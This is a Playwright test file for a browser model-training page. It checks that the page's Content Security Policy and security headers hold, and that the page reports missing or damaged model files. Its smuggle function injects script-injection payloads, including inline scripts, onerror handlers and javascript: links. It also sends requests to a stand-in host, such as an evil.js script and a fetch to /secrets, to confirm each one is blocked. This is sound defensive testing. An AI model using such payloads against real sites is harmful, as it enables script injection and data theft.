/** The walls round the page: what no script may do, and what the page says of files that do not come as they should. */
import type { Page, Route } from '@playwright/test';
import { button, download, expect, expectAccessible, open, status, test } from './lab.ts';

const notices = (page: Page) => page.getByRole('region', { name: 'Messages' });
const SHOTS = process.env.SHOTS;
const shoot = async (page: Page, name: string) => {
  if (SHOTS) await page.screenshot({ path: `${SHOTS}/${name}.png` });
};

/** Everything that an attacker who can write into the page would try; resolves to the directives that stopped it. */
function smuggle(): Promise<string[]> {
  const stopped: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    stopped.push(effectiveDirective),
  );
  const put = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
  const run = 'window.smuggled = true';
  const script = document.createElement('script');
  script.textContent = run;
  document.body.append(script);
  const foreign = document.createElement('script');
  foreign.src = 'http://localhost:9/evil.js';
  document.body.append(foreign);
  put(`<img src="x" onerror="${run}">`);
  put(`<a id="smuggler" href="javascript:${run}">x</a>`);
  document.getElementById('smuggler')?.click();
  put('<iframe src="data:text/html,x"></iframe><object data="data:text/html,x"></object>');
  put('<img src="http://localhost:9/pixel.png"><p style="color: red">x</p>');
  put('<form action="http://localhost:9/form"><button id="sender">x</button></form>');
  document.getElementById('sender')?.click();
  void fetch('http://localhost:9/secrets').catch(() => undefined);
  // Away from the debugger, to which the policy does not apply.
  setTimeout(() => {
    try {
      (0, eval)(run);
    } catch {
      // Stopped.
    }
    try {
      new Worker(URL.createObjectURL(new Blob([run])));
    } catch {
      // Stopped.
    }
  });
  return new Promise((resolve) => setTimeout(() => resolve([...new Set(stopped)].sort()), 1000));
}

/** What `smuggle` must meet. */
const STOPPED = [
  ...['connect-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'script-src'],
  ...['script-src-attr', 'script-src-elem', 'style-src-attr', 'worker-src'],
];

test.describe('a script smuggled into the page', () => {
  test.use({ provoked: [/violates|csp-violation|effectiveDirective|evil\.js|pixel|Refused|ERR_/] });

  for (const host of ['our own server', 'a host without headers'])
    test(`does not run on ${host}, and cannot speak to anyone`, async ({ page }) => {
      if (host !== 'our own server')
        await page.route('**/*', async (route) => {
          const answer = await route.fetch();
          await route.fulfill({
            status: answer.status(),
            body: await answer.body(),
            contentType: answer.headers()['content-type'] ?? 'application/octet-stream',
          });
        });
      const reported: string[] = [];
      page.on('console', (message) => reported.push(message.text()));
      await open(page);
      expect(await page.evaluate(smuggle)).toEqual(STOPPED);
      expect(await page.evaluate(() => Reflect.get(window, 'smuggled') as unknown)).toBeUndefined();
      // The tests' own watch, which fails every other test, has seen it.
      for (const directive of ['script-src-elem', 'connect-src', 'worker-src'])
        expect(reported.some((text) => text.includes(`"effectiveDirective":"${directive}"`))).toBe(true);
      // Parts that load late are still under way.
      await page.unrouteAll({ behavior: 'ignoreErrors' });
    });

  test('does not speak to other sites from the worker, either', async ({ page }) => {
    const reported: string[] = [];
    page.on('console', (message) => reported.push(message.text()));
    await open(page);
    const lab = page.workers().find((worker) => worker.url().includes('/assets/worker-'));
    const answer = await lab?.evaluate(() => fetch('http://localhost:9/secrets').then(String, String));
    expect(answer).toContain('Failed to fetch');
    await expect
      .poll(() => reported.filter((text) => text.includes('"effectiveDirective":"connect-src"')).length)
      .toBeGreaterThan(0);
  });
});

test('what the page itself does is allowed: dialogs, both themes, a chart as PNG', async ({ page }) => {
  await open(page, '?max_steps=2&eval_steps=2&batch_size=1&metric_steps=0');
  await button(page, 'Train').click();
  await expect(status(page)).toContainText('Finished', { timeout: 120_000 });
  for (const theme of ['as the system', 'light', 'dark']) await button(page, `Theme: ${theme}`).click();
  await button(page, 'Keyboard shortcuts').click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toBeHidden();
  const png = await download(page, async () => {
    await page.getByRole('button', { name: 'Menu of Loss' }).click();
    await page.getByRole('menuitem', { name: 'Download PNG' }).click();
  });
  expect(png.subarray(1, 4).toString()).toBe('PNG');
});

test('our own server tells the browser what the page may do', async ({ page, request }) => {
  await page.goto('/');
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const headers = (await request.get('/')).headers();
  expect(headers['content-security-policy']).toBe(`${meta}; frame-ancestors 'none'`);
  expect(meta).toMatch(/^default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; /);
  // Browsers look for the encoding that far; the policy stands before it.
  expect((await (await request.get('/')).text()).indexOf('<meta charset')).toBeLessThan(1000);
  const script = await page.locator('script[src]').first().getAttribute('src');
  for (const path of ['/', script ?? '', '/models/nano/model.safetensors'])
    expect((await request.get(new URL(path, page.url()).href)).headers()).toMatchObject({
      'content-security-policy': expect.stringMatching(/^default-src 'none'; /),
      'permissions-policy': expect.stringContaining('camera=(), '),
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-embedder-policy': 'require-corp',
    });
});

/** How a server may fail a file, and what the page says of it. */
const FAULTS: { name: string; file: string; answer: (route: Route) => Promise<void>; says: RegExp }[] = [
  {
    name: 'missing',
    file: 'model.safetensors',
    answer: (route) => route.fulfill({ status: 404, body: 'no' }),
    says: /A file that the page needs could not be loaded.*model\.safetensors: the server answered 404/s,
  },
  {
    name: 'a web page',
    file: 'heldout.txt',
    answer: (route) =>
      route.fulfill({ body: '<!doctype html><title>Home</title>', contentType: 'text/html' }),
    says: /A file that the page needs could not be loaded.*heldout\.txt: the server answered with a web page/s,
  },
  {
    name: 'exchanged',
    file: 'tokenizer.json',
    answer: (route) => route.fulfill({ json: {} }),
    says: /The model’s files are damaged.*tokenizer\.json is not the file that manifest\.json names/s,
  },
  {
    name: 'never sent',
    file: 'config.json',
    // Not answered at all.
    answer: () => Promise.resolve(),
    says: /A file that the page needs could not be loaded.*config\.json: the server has sent nothing for 10 s/s,
  },
];

test.describe('a model’s file', () => {
  test.use({ provoked: [/Failed to load resource.*404/] });

  for (const { name, file, answer, says } of FAULTS)
    test(`that is ${name} is told, and Try again gets it`, async ({ page }) => {
      await page.route(`**/models/nano/${file}`, answer);
      await page.goto('/');
      await expect(notices(page)).toContainText(says, { timeout: 15_000 });
      await expect(status(page)).toContainText('Not ready');
      await expectAccessible(page);
      await shoot(page, `file-${name.replaceAll(' ', '-')}`);
      await page.unroute(`**/models/nano/${file}`);
      await button(page, 'Try again').click();
      await expect(status(page)).toContainText('press Train', { timeout: 30_000 });
      await expect(notices(page)).not.toContainText('could not be loaded');
    });
});

test.describe('a missing WASM file', () => {
  test.use({ provoked: [/Failed to load resource.*404/] });

  test('is told, with the backend that was taken instead, and training goes on', async ({ page }) => {
    await page.route('**/*.wasm', (route) => route.fulfill({ status: 404, body: 'no' }));
    await open(page, '?max_steps=2&eval_steps=2&batch_size=1&metric_steps=0');
    await expect(notices(page)).toContainText('so plain JavaScript does the work');
    await expect(page.getByRole('button', { name: /^CPU/ })).toContainText(
      'the WASM file could not be loaded',
    );
    await shoot(page, 'wasm-missing');
    await button(page, 'Train').click();
    await expect(status(page)).toContainText(/step [12] of 2/, { timeout: 60_000 });
  });
});
